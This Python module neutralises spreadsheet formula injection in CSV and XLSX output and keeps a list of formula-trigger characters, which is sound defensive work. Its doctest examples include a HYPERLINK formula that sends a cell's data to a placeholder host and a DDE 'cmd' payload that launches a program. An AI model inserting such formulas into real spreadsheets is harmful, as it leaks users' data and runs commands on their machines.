"""Spreadsheet formula-injection neutraliser for every CSV and XLSX cell the tool writes (OWASP CSV injection).

A text cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return (or their full-width
forms, which some spreadsheet input methods turn into formulas) gets a leading apostrophe, so Excel,
WPS and LibreOffice show it as text and never evaluate it. Numbers stay numbers. Shared by present/,
the importer and the ledger.

Examples
--------
>>> neutralise('=HYPERLINK("http://x/?d="&A1,"点此")')
'\\'=HYPERLINK("http://x/?d="&A1,"点此")'
>>> neutralise("=cmd|' /C calc'!A0")
"'=cmd|' /C calc'!A0"
>>> neutralise("-5"), neutralise(-5), neutralise("东方盛虹"), neutralise("\\t=1")
("'-5", -5, '东方盛虹', "'\\t=1")
"""

from __future__ import annotations

from typing import Any

__all__ = ["FORMULA_STARTS", "is_dangerous", "neutralise"]

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


def is_dangerous(value: Any) -> bool:
    """True for a text value a spreadsheet could read as a formula."""
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


def neutralise(value: Any) -> Any:
    """``value`` with a leading apostrophe when it is dangerous text; anything else unchanged."""
    return "'" + value if is_dangerous(value) else value
